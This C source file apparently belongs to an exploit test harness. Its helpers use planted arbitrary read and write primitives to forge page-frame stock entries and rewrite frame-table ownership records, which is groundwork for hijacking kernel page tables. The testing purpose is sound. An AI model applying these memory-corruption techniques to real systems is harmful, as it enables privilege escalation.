/* Stocks of frames that a processor keeps for itself, and the frame table, as an attacker changes
 * them. */
#include <sys/mman.h>

#include "attack.h"

enum { SLOT_BYTES = 4, FRAME_BYTES = 8, HISTORY_BYTES = 2 };
/* Of the first word of a frame's entry: the owner, and a flag. */
enum { OWNER_FREE = 1, OWNER_PTABLE = 3 };
#define FLAG_HIDDEN 0x100ul
#define FLAGS_IDLE_ROOT 0x1c00ul /* of level 4, whose place is its own, in no address space */
#define FRAME_NUMBER (~0ul << 32)

/* In the same GiB: no table but these two is missing. */
volatile char *attack_ranges(bool has_second)
{
	enum { SPAN = ATTACK_RANGE_BYTES, GIB = 1 << 30 };
	char *start = mmap(NULL, (size_t)4 * SPAN, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	volatile char *first;

	if (start == MAP_FAILED) {
		attack_skip("no memory for two page tables");
	}
	start += (SPAN - (uintptr_t)start % SPAN) % SPAN;
	first = (uintptr_t)start % GIB == GIB - SPAN ? start + SPAN : start;
	first[0] = 0;
	if (has_second) {
		first[SPAN] = 0;
	}
	return first;
}

static uint64_t read32(uint64_t address) { return (uint32_t)bw_vuln_read(address); }

static void store32(uint64_t address, uint64_t value)
{
	attack_check("vuln_store", bw_vuln_store(address, value, SLOT_BYTES));
}

uint64_t attack_stock_forge(const struct bw_stock *stock, uint64_t pfn)
{
	uint64_t nr = read32(stock->nr), slot, before;

	slot = stock->slots + (nr > 0 ? nr - 1 : 0) * SLOT_BYTES;
	before = read32(slot);
	store32(slot, pfn);
	if (nr == 0) {
		store32(stock->nr, 1);
	}
	return before;
}

void attack_stock_return(const struct bw_stock *stock, uint64_t pfn)
{
	uint64_t nr = read32(stock->nr);

	if (pfn != 0 && nr < stock->nr_slots) {
		store32(stock->slots + nr * SLOT_BYTES, pfn);
		store32(stock->nr, nr + 1);
	}
}

void attack_stock_replace(const struct bw_stock *stock, uint64_t pfn, uint64_t by)
{
	for (uint64_t i = 0; i < stock->nr_slots; i++) {
		if (read32(stock->slots + i * SLOT_BYTES) == pfn) {
			store32(stock->slots + i * SLOT_BYTES, by);
		}
	}
}

void attack_frame_books_read(const struct bw_leak *leak, uint64_t pfn,
			     struct attack_frame_books *books)
{
	books->place = leak->frames + pfn * FRAME_BYTES;
	books->state = (uint64_t)bw_vuln_read(books->place);
	books->links_place = leak->frame_links + pfn * FRAME_BYTES;
	books->links = (uint64_t)bw_vuln_read(books->links_place);
	books->history_place = leak->histories + pfn * HISTORY_BYTES;
	books->history = (uint64_t)bw_vuln_read(books->history_place);
}

void attack_frame_books_restore(const struct attack_frame_books *books)
{
	attack_check("vuln_write", bw_vuln_write(books->place, books->state));
	attack_check("vuln_write", bw_vuln_write(books->links_place, books->links));
	attack_check("vuln_store",
		     bw_vuln_store(books->history_place, books->history, HISTORY_BYTES));
}

void attack_frame_books_free(const struct attack_frame_books *books)
{
	attack_check("vuln_write",
		     bw_vuln_write(books->place, (books->state & FLAG_HIDDEN) | OWNER_FREE));
}

void attack_frame_books_no_table(const struct attack_frame_books *books)
{
	attack_check("vuln_write", bw_vuln_write(books->place, OWNER_PTABLE));
}

void attack_frame_books_idle_root(const struct attack_frame_books *books)
{
	attack_check("vuln_write",
		     bw_vuln_write(books->place,
				   (books->state & FRAME_NUMBER) | FLAGS_IDLE_ROOT | OWNER_PTABLE));
}
